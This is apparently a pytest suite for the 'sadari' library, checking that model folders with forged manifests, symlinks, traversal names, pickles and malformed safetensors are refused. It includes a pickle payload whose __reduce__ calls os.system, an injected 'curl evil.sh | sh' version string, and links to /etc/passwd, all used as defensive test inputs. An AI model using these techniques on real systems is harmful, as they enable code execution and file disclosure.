"""A model folder is untrusted: it is read right, or refused in under two seconds with the reason."""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import shutil
import socket
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sadari.artifact import read_model, write_model
from sadari.errors import ModelError, OutputError

CONTENT: dict[str, Any] = {"kind": "classifier", "label_names": ["a", "b"], "settings": {"lr": 0.5}}
TENSORS = {"weight": np.linspace(0, 1, 6, dtype=np.float32).reshape(2, 3), "ids": np.arange(3)}
TEXTS = {"vocabulary.txt": "<unk>\nthe\n", "README.md": "# card\n"}
FILES = ["sadari.json", "weights.safetensors", "vocabulary.txt", "README.md"]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    write_model(tmp_path / "model", manifest=CONTENT, tensors=TENSORS, texts=TEXTS)
    return tmp_path / "model"


def seal(folder: Path, manifest: Any) -> None:
    """Write a manifest as a forger would, with the SHA-256 that it needs."""
    body = json.dumps(manifest, ensure_ascii=False, indent=2).removesuffix("\n}").encode("utf-8", "surrogatepass")
    end = f',\n  "sha256": "{hashlib.sha256(body).hexdigest()}"\n}}\n'
    (folder / "sadari.json").write_bytes(body + end.encode())


def change(folder: Path, **keys: Any) -> None:
    manifest = json.loads((folder / "sadari.json").read_bytes())
    del manifest["sha256"]
    seal(folder, {**manifest, **keys})


def forge(folder: Path, name: str, data: bytes) -> None:
    """Put in a file, and vouch for it in the manifest."""
    (folder / name).write_bytes(data)
    files = json.loads((folder / "sadari.json").read_bytes())["files"]
    change(folder, files={**files, name: {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}})


def weights(header: Any, data: bytes = b"") -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + data


def refused(folder: Path, reason: str, **options: Any) -> ModelError:
    start = time.process_time()
    with pytest.raises(ModelError, match=reason) as caught:
        read_model(folder, **options)
    assert time.process_time() - start < 2
    what = str(caught.value).split("\n  → ")[0]
    assert "\n" not in what
    assert len(what) < 400 + len(str(folder))
    return caught.value


def test_what_the_forger_of_these_tests_makes_is_read_when_it_is_right(folder: Path) -> None:
    change(folder, kind="other")
    header = {"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "__metadata__": {"format": "pt"}}
    forge(folder, "weights.safetensors", weights(header, np.float32(2).tobytes()))
    forge(folder, "more.txt", b"more")
    model = read_model(folder)
    assert model.manifest["kind"] == "other"
    assert model.tensors["w"].tolist() == [2.0]
    assert model.texts == {**TEXTS, "more.txt": "more"}


def test_no_such_folder_a_file_and_another_folder(tmp_path: Path, folder: Path) -> None:
    refused(tmp_path / "nowhere", "nowhere: there is no such model folder")
    refused(folder / "sadari.json", "is not a model folder but a file")
    refused(tmp_path, "not a Sadari model: it holds no sadari.json")
    refused(tmp_path / "a\0b", "NUL")
    refused(tmp_path / ("x" * 300), "too long")
    (tmp_path / "loop").symlink_to("loop")
    refused(tmp_path / "loop", "cannot be read")


def test_what_the_manifest_does_not_name_is_ignored(folder: Path) -> None:
    (folder / "evil.pkl").write_bytes(b"x")
    (folder / "link").symlink_to("/etc/passwd")
    os.mkfifo(folder / "pipe")
    assert read_model(folder).texts == TEXTS


# --- every byte ------------------------------------------------------------------------------------------


def test_every_byte_counts(folder: Path) -> None:
    for name in FILES:
        whole = (folder / name).read_bytes()
        for place in range(len(whole)):
            for flip in (1, 0x20, 0x80):
                torn = bytearray(whole)
                torn[place] ^= flip
                (folder / name).write_bytes(torn)
                with pytest.raises(ModelError):
                    read_model(folder)
        (folder / name).write_bytes(whole)
    assert read_model(folder).texts == TEXTS


def test_every_length_but_the_right_one_is_refused(folder: Path) -> None:
    for name in FILES:
        whole = (folder / name).read_bytes()
        for torn in [whole[:length] for length in range(len(whole))] + [whole + b"\n", whole + b"\0" * 5000]:
            (folder / name).write_bytes(torn)
            with pytest.raises(ModelError):
                read_model(folder)
        (folder / name).write_bytes(whole)
    assert read_model(folder).texts == TEXTS


@given(name=st.sampled_from(FILES), data=st.data())
def test_a_damaged_file_is_refused(tmp_path_factory: pytest.TempPathFactory, name: str, data: st.DataObject) -> None:
    folder = tmp_path_factory.mktemp("damaged") / "model"
    write_model(folder, manifest=CONTENT, tensors=TENSORS, texts=TEXTS)
    whole = (folder / name).read_bytes()
    start = data.draw(st.integers(0, len(whole)))
    end = data.draw(st.integers(start, len(whole)))
    torn = whole[:start] + data.draw(st.binary(max_size=9)) + whole[end:]
    (folder / name).write_bytes(torn)
    if torn == whole:
        assert read_model(folder).texts == TEXTS
    else:
        with pytest.raises(ModelError):
            read_model(folder)


@pytest.mark.parametrize("name", FILES)
def test_a_missing_file_is_named(folder: Path, name: str) -> None:
    (folder / name).unlink()
    assert name in str(refused(folder, "missing|holds no"))


# --- other things than plain files -----------------------------------------------------------------------


def make_link(path: Path) -> None:
    shutil.move(path, path.parent.parent / "moved")
    path.symlink_to("../moved")


def make_inner_link(path: Path) -> None:
    shutil.move(path, path.with_name("moved"))
    path.symlink_to("moved")


def make_secret(path: Path) -> None:
    path.unlink()
    path.symlink_to("/etc/passwd")


def make_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def make_pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def make_socket(path: Path) -> None:
    path.unlink()
    here = Path.cwd()
    os.chdir(path.parent)  # the name of a socket may have 107 bytes
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(path.name)
    finally:
        os.chdir(here)


def make_device(path: Path) -> None:
    path.unlink()
    try:
        os.mknod(path, 0o600 | 0o020000, os.makedev(1, 5))  # /dev/zero, which never ends
    except PermissionError:
        pytest.skip("only root may make a device")


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize(
    ("make", "kind"),
    [
        (make_link, "a link"),
        (make_inner_link, "a link"),
        (make_secret, "a link"),
        (make_folder, "a folder"),
        (make_pipe, "a pipe"),
        (make_socket, "a socket"),
        (make_device, "a device"),
    ],
)
def test_what_is_not_a_plain_file(folder: Path, name: str, make: Callable[[Path], None], kind: str) -> None:
    make(folder / name)
    refused(folder, f"{name}: is {kind}, not a plain file")


def test_a_hard_link_brings_in_nothing_that_its_maker_did_not_have(tmp_path: Path, folder: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("password: 12345\n")
    for size in (len(TEXTS["README.md"]), secret.stat().st_size):
        (folder / "README.md").unlink()
        os.link(secret, folder / "README.md")
        files = json.loads((folder / "sadari.json").read_bytes())["files"]
        change(folder, files={**files, "README.md": {"size": size, "sha256": "0" * 64}})
        assert "12345" not in str(refused(folder, r"README\.md: (holds|was changed)"))


@pytest.mark.parametrize(
    "name",
    [
        "../secret.txt",
        "/etc/passwd",
        "a/../../secret.txt",
        "sub/file.txt",
        "..",
        ".",
        "",
        "a\0b",
        "a\nb",
        ".hidden",
        "..\\secret.txt",
        "C:secret",
        "con",
        "NUL.txt",
        "file:stream",
        "x" * 101,
        "파일",
        "~root",
        "sadari.json",
    ],
)
def test_names_that_lead_elsewhere(tmp_path: Path, folder: Path, name: str) -> None:
    (tmp_path / "secret.txt").write_text("secret")
    entry = {"size": 6, "sha256": hashlib.sha256(b"secret").hexdigest()}
    files = json.loads((folder / "sadari.json").read_bytes())["files"]
    change(folder, files={**files, name: entry})
    refused(folder, "is not a name that a file of a model can have")


@pytest.mark.parametrize("hostile", [False, True])
def test_nothing_outside_the_folder_is_opened(folder: Path, hostile: bool) -> None:
    """Python's own record of all that it opens, in a process that only reads the model."""
    if hostile:
        make_secret(folder / "README.md")
    code = (
        "import json, sys; from sadari.artifact import read_model; from sadari.errors import ModelError\n"
        "opened = []\n"
        "sys.addaudithook(lambda event, args: opened.append(str(args[0])) if event == 'open' else None)\n"
        "try: read_model(sys.argv[1])\n"
        "except ModelError as error: opened.append('refused')\n"
        "print(json.dumps(opened))"
    )
    done = subprocess.run([sys.executable, "-c", code, str(folder)], capture_output=True, check=True)
    opened = {name for name in json.loads(done.stdout) if not name.isdigit()}  # numbers: what is open already
    assert opened - {"vocabulary.txt"} == (
        {str(folder), "sadari.json", "weights.safetensors", "refused" if hostile else "README.md"}
    )


# --- other formats under our names -----------------------------------------------------------------------


class Payload:
    """Unpickling this makes a file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"touch '{self.marker}'",)


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("kind", ["pickle", "old pickle", "zip"])
def test_a_pickle_under_another_name_is_not_run(tmp_path: Path, folder: Path, name: str, kind: str) -> None:
    marker = tmp_path / "ran"
    data = pickle.dumps(Payload(marker), protocol=0 if kind == "old pickle" else 4)
    if kind == "zip":
        with zipfile.ZipFile(tmp_path / "zip", "w") as archive:
            archive.writestr("archive/data.pkl", data)
        data = (tmp_path / "zip").read_bytes()
    if name == "sadari.json":
        (folder / name).write_bytes(data)
    else:
        forge(folder, name, data)
    if kind == "old pickle" and name in TEXTS:
        assert read_model(folder).texts[name] == data.decode()  # it is text, and stays text
    else:
        words = {"pickle": "a Python pickle", "zip": "a zip file", "old pickle": "is not|is refused"}
        refused(folder, words[kind])
    assert not marker.exists()


# --- the manifest ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "not JSON"),
        (b"[]", "not a Sadari model"),
        (b'"sadari"', "not a Sadari model"),
        (b"{}", "'format_version' is missing"),
        (b"[" * 4_000_000, "nested 4000000 deep"),
        (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "nested 100000 deep"),
        (b'{"format_version": 1, "format_version": 2}', "'format_version' is given twice"),
        (b'{"format_version": NaN}', "NaN"),
        (b'{"format_version": 1e999}', "too large"),
        (b'{"format_version": ' + b"1" * 5000 + b"}", "5,000 digits"),
        (b'{"format_version": 1, "x": "' + b"x" * (4 * 2**20) + b'"}', "4,194,304 is the limit"),
        (b'{"format_version": 1}', "changed after it was written"),
    ],
    ids=lambda value: value[:24].decode() if isinstance(value, bytes) else None,
)
def test_manifests_that_are_no_strict_json(folder: Path, data: bytes, reason: str) -> None:
    (folder / "sadari.json").write_bytes(data)
    assert refused(folder, reason).where == str(folder / "sadari.json")


@pytest.mark.parametrize("version", [0, -1, True, 1.0, "1", None, [1], {}])
def test_format_versions_that_cannot_be(folder: Path, version: Any) -> None:
    change(folder, format_version=version)
    refused(folder, "'format_version' is missing or not a number")


def test_a_newer_format_says_which_sadari_is_needed(folder: Path) -> None:
    change(folder, format_version=2, versions={"sadari": "3.1.0"}, kind=7, files="elsewhere")
    assert refused(folder, "format 2; this Sadari reads formats up to 1").hint == "pip install 'sadari>=3.1.0'"
    for odd in ({"sadari": "1; curl evil.sh | sh"}, {"sadari": 3}, {}, "3.1.0", None):
        change(folder, format_version=10**30, versions=odd)
        assert refused(folder, "reads formats up to 1").hint == "pip install --upgrade sadari"
    with pytest.raises(OutputError, match=r"reads formats up to"):  # nor is it overwritten
        write_model(folder, manifest=CONTENT, tensors=TENSORS, texts=TEXTS)


@pytest.mark.parametrize(
    ("keys", "reason"),
    [
        ({"kind": 1}, "'kind'"),
        ({"kind": None}, "'kind'"),
        ({"rung": ["bow"]}, "'rung' is not text"),
        ({"settings": []}, "'settings' is not an object"),
        ({"scores": "0.9"}, "'scores'"),
        ({"data": 3}, "'data'"),
        ({"tokenizer": ["x"]}, "'tokenizer' is not an object or text or null"),
        ({"versions": {"sadari": 1}}, "'versions'"),
        ({"label_names": {"a": 0}}, "'label_names' is not a list"),
        ({"label_names": ["a", 1]}, "'label_names'"),
        ({"label_names": ["a", ["b"]]}, "'label_names'"),
        ({"label_names": ["a", "a"]}, "'label_names' holds a name twice"),
        ({"files": []}, "'files' is missing or not an object"),
        ({"files": None}, "'files' is missing or not an object"),
        ({"files": {}}, r"does not name weights\.safetensors"),
        ({"files": {"weights.safetensors": 5}}, "not given with its size"),
        ({"files": {f"f{n}": {} for n in range(100_000)}}, "100,000 files"),
    ],
    ids=lambda value: str(value)[:40],
)
def test_manifests_of_wrong_types(folder: Path, keys: dict[str, Any], reason: str) -> None:
    change(folder, **keys)
    refused(folder, reason)


@pytest.mark.parametrize("size", [-1, True, 1.5, "9", None, 10**18, 10**40, 2**63])
def test_sizes_that_cannot_be(folder: Path, size: Any) -> None:
    files = json.loads((folder / "sadari.json").read_bytes())["files"]
    for name in ("weights.safetensors", "vocabulary.txt"):
        change(folder, files={**files, name: {**files[name], "size": size}})
        refused(folder, "size and SHA-256|is the limit|digits")


@pytest.mark.parametrize("digest", ["", "0" * 63, "A" * 64, "0" * 64 + "\n", 0, None, ["0"]])
def test_digests_that_cannot_be(folder: Path, digest: Any) -> None:
    files = json.loads((folder / "sadari.json").read_bytes())["files"]
    change(folder, files={**files, "README.md": {**files["README.md"], "sha256": digest}})
    refused(folder, "size and SHA-256")


def test_a_file_that_is_large_but_for_its_content(folder: Path) -> None:
    """Sparse files: terabytes that take no room, of which not one is read."""
    with (folder / "weights.safetensors").open("r+b") as file:
        file.truncate(10**12)
    refused(folder, "holds 1,000,000,000,000 bytes where")
    files = json.loads((folder / "sadari.json").read_bytes())["files"]
    change(folder, files={**files, "weights.safetensors": {"size": 10**12, "sha256": "0" * 64}})
    refused(folder, "2,147,483,648 is the limit")
    with (folder / "sadari.json").open("r+b") as file:
        file.truncate(10**12)
    refused(folder, "4,194,304 is the limit")


def test_the_limit_is_the_readers(folder: Path) -> None:
    total = sum(file["size"] for file in read_model(folder).manifest["files"].values())
    assert read_model(folder, max_bytes=total).texts == TEXTS
    refused(folder, f"{total - 1} is the limit", max_bytes=total - 1)


def test_text_that_is_no_text(folder: Path) -> None:
    forge(folder, "vocabulary.txt", b"the\n\xff\xfe\n")
    refused(folder, r"vocabulary\.txt: is not UTF-8 text \(byte 4\)")


# --- the weights -----------------------------------------------------------------------------------------


def entry(dtype: Any = "F32", shape: Any = (1,), at: Any = (0, 4)) -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": at}


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "is not safetensors"),
        (b"\0" * 7, "is not safetensors"),
        (b"\0" * 8, "not JSON"),
        ((10**18).to_bytes(8, "little") + b"{}", "a header of 1,000,000,000,000,000,000 bytes"),
        (b"\xff" * 8 + b"{}", "announces a header"),
        ((3).to_bytes(8, "little") + b"{}", "announces a header of 3 bytes"),
        ((2**20 + 1).to_bytes(8, "little") + b" " * (2**20 + 1), "announces a header"),
        (weights(b"[]"), "not a JSON object"),
        (weights(b"\xff\xff"), "not UTF-8"),
        (weights(b"[" * 100_000), "nested"),
        (weights(b'{"a":{},"a":{}}'), "twice"),
        (weights({"a": []}), "not given as dtype"),
        (weights({"a": {"dtype": "F32", "shape": [1]}}), "not given as dtype"),
        (weights({"a": {**entry(), "code": "x"}}, b"\0" * 4), "not given as dtype"),
        (weights({"a": entry(dtype="F128")}, b"\0" * 4), "unknown dtype 'F128'"),
        (weights({"a": entry(dtype=["F32"])}, b"\0" * 4), "unknown dtype"),
        (weights({"a": entry(shape=[-1])}, b"\0" * 4), "no usable shape"),
        (weights({"a": entry(shape=[True])}, b"\0" * 4), "no usable shape"),
        (weights({"a": entry(shape=[1.0])}, b"\0" * 4), "no usable shape"),
        (weights({"a": entry(shape="1")}, b"\0" * 4), "no usable shape"),
        (weights({"a": entry(shape=[1] * 9)}, b"\0" * 4), "no usable shape"),
        (weights({"a": entry(shape=[2**32, 2**32])}, b"\0" * 4), "no usable shape"),
        (weights({"a": entry(shape=[10**18])}, b"\0" * 4), "no usable shape"),
        (weights({"a": entry(shape=[0, 2**63], at=[0, 0])}), "no usable shape"),
        (weights({"a": entry(shape=[0, 2**47, 2**47], at=[0, 0])}), "shape"),
        (weights({"a": entry(shape=[2**40])}, b"\0" * 4), "needs 4398046511104 bytes and is given 4"),
        (weights({"a": entry(shape=[2])}, b"\0" * 4), "needs 8 bytes and is given 4"),
        (weights({"a": entry(at=[0, 10**18])}, b"\0" * 4), "no usable data_offsets"),
        (weights({"a": entry(at=[4, 0])}, b"\0" * 4), "is given -4"),
        (weights({"a": entry(at=[-4, 0])}, b"\0" * 4), "no usable data_offsets"),
        (weights({"a": entry(at=[0])}, b"\0" * 4), "no usable data_offsets"),
        (weights({"a": entry(at=[1, 5])}, b"\0" * 5), "begins at byte 1, where 0 is next"),
        (weights({"a": entry(), "b": entry()}, b"\0" * 4), "begins at byte 0, where 4 is next"),
        (weights({"a": entry(), "b": entry(at=[2, 6])}, b"\0" * 6), "begins at byte 2, where 4 is next"),
        (weights({"a": entry(), "b": entry(at=[8, 12])}, b"\0" * 12), "begins at byte 8, where 4 is next"),
        (weights({"a": entry()}, b"\0" * 8), "take 4 bytes, the file holds 8"),
        (weights({"a": entry()}, b"\0" * 3), "take 4 bytes, the file holds 3"),
        (weights({"a": entry(dtype="BOOL", shape=[4])}, b"\0\1\2\1"), "neither 0 nor 1"),
        (weights({"a" * 9000: entry(dtype="?")}, b"\0" * 4), "unknown dtype"),
    ],
    ids=lambda value: None if isinstance(value, bytes) else value[:30],
)
def test_weights_that_cannot_be(folder: Path, data: bytes, reason: str) -> None:
    forge(folder, "weights.safetensors", data)
    assert refused(folder, reason).where == str(folder / "weights.safetensors")


@pytest.mark.parametrize(
    ("dtype", "bits"),
    [
        ("F16", b"\x00\x7c"),
        ("F16", b"\x01\xfc"),
        ("BF16", b"\x80\x7f"),
        ("BF16", b"\xc0\xff"),
        ("F32", np.float32("nan").tobytes()),
        ("F32", b"\x01\x00\x80\xff"),
        ("F32", np.float32("-inf").tobytes()),
        ("F64", np.float64("nan").tobytes()),
        ("F64", np.float64("inf").tobytes()),
    ],
)
@pytest.mark.parametrize("place", [0, 2**19 - 1, 2**20 - 1, 2**21 - 1, 2_999_999])
def test_weights_that_are_not_finite(folder: Path, dtype: str, bits: bytes, place: int) -> None:
    width = len(bits)
    data = bytearray(3_000_000 * width)
    data[place * width : (place + 1) * width] = bits
    header = {"w": entry(dtype, [3_000_000], [0, len(data)])}
    forge(folder, "weights.safetensors", weights(header, bytes(data)))
    for as_torch in (False, True):
        refused(folder, f"tensor 'w' holds NaN or infinity at place {place:,}", as_torch=as_torch)


def test_the_largest_numbers_are_finite(folder: Path) -> None:
    tensors = {
        str(kind): np.array([np.finfo(kind).max, np.finfo(kind).min, np.finfo(kind).smallest_subnormal], kind)
        for kind in (np.float16, np.float32, np.float64)
    }
    write_model(folder, manifest=CONTENT, tensors=tensors, texts={})
    for name, tensor in read_model(folder).tensors.items():
        np.testing.assert_array_equal(tensor, tensors[name])


def test_tensors_at_odd_places_are_read_right(folder: Path) -> None:
    """safetensors allows a tensor at any byte; what is handed out is aligned all the same."""
    header = {
        "flag": entry("BOOL", [1], [0, 1]),
        "wide": entry("F64", [2], [1, 17]),
        "none": entry("F32", [0, 3], [17, 17]),
    }
    forge(folder, "weights.safetensors", weights(header, b"\1" + np.array([1.5, -2]).tobytes()))
    found = read_model(folder).tensors
    assert found["flag"].tolist() == [True]
    assert found["wide"].tolist() == [1.5, -2]
    assert found["wide"].flags.aligned
    assert found["none"].shape == (0, 3)


WEIGHTS = weights({"w": entry()}, b"\0" * 4)

# --- anything at all -------------------------------------------------------------------------------------

anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, bytes]:
    """A model that many examples are forged from, and its manifest as it was written."""
    folder = tmp_path_factory.mktemp("shared") / "model"
    write_model(folder, manifest=CONTENT, tensors=TENSORS, texts=TEXTS)
    return folder, (folder / "sadari.json").read_bytes()


KEYS = ["format_version", "kind", "rung", "settings", "label_names", "tokenizer", "versions", "files"]


@given(keys=st.dictionaries(st.sampled_from(KEYS), anything, min_size=1))
def test_any_manifest_is_read_or_refused(shared: tuple[Path, bytes], keys: dict[str, Any]) -> None:
    folder, manifest = shared
    (folder / "weights.safetensors").write_bytes(WEIGHTS)
    (folder / "sadari.json").write_bytes(manifest)
    forge(folder, "weights.safetensors", WEIGHTS)
    change(folder, **keys)
    try:
        model = read_model(folder)
    except ModelError:
        return
    assert model.texts == TEXTS
    assert {key: model.manifest[key] for key in keys} == keys


numbers = st.integers(-2, 20) | st.sampled_from([2**31, 2**48, 2**63, 10**18]) | anything
entries = st.fixed_dictionaries(
    {
        "dtype": st.sampled_from(["F32", "I8", "BOOL", "BF16", "F64", "?"]) | anything,
        "shape": st.lists(numbers, max_size=3) | anything,
        "data_offsets": st.lists(numbers, min_size=2, max_size=2) | anything,
    }
)


@given(header=st.dictionaries(st.text(max_size=3), entries | anything, max_size=3), data=st.binary(max_size=24))
def test_any_weights_are_read_or_refused(shared: tuple[Path, bytes], header: dict[str, Any], data: bytes) -> None:
    folder, manifest = shared
    (folder / "sadari.json").write_bytes(manifest)
    forge(folder, "weights.safetensors", weights(header, data))
    try:
        found = read_model(folder).tensors
    except ModelError:
        return
    assert sum(tensor.nbytes for tensor in found.values()) == len(data)


@given(data=st.data())
def test_weights_that_are_nearly_right_are_read_as_the_safetensors_library_reads_them(
    shared: tuple[Path, bytes], data: st.DataObject
) -> None:
    """Where we take a header, the library takes it too and finds the same tensors."""
    from safetensors import SafetensorError
    from safetensors.numpy import load

    header, at = {}, 0
    for name in data.draw(st.lists(st.text("abc", min_size=1, max_size=2), max_size=3, unique=True)):
        dtype = data.draw(st.sampled_from(["I8", "I16", "U32", "I64"]))
        shape = data.draw(st.lists(st.integers(0, 3), max_size=3))
        size = int(np.prod(shape)) * {"I8": 1, "I16": 2, "U32": 4, "I64": 8}[dtype]
        shift = data.draw(st.sampled_from([0, 0, 0, 0, 1, -1]))
        header[name] = entry(dtype, shape, [max(0, at + shift), at + size])
        at += size
    content = weights(header, bytes(index % 251 for index in range(at)))
    folder, manifest = shared
    (folder / "sadari.json").write_bytes(manifest)
    forge(folder, "weights.safetensors", content)
    try:
        found = read_model(folder).tensors
    except ModelError:
        with pytest.raises((SafetensorError, ValueError)):
            load(content)
        return
    theirs = load(content)
    assert set(found) == set(theirs)
    for name, tensor in found.items():
        assert tensor.shape == theirs[name].shape
        np.testing.assert_array_equal(tensor, theirs[name])
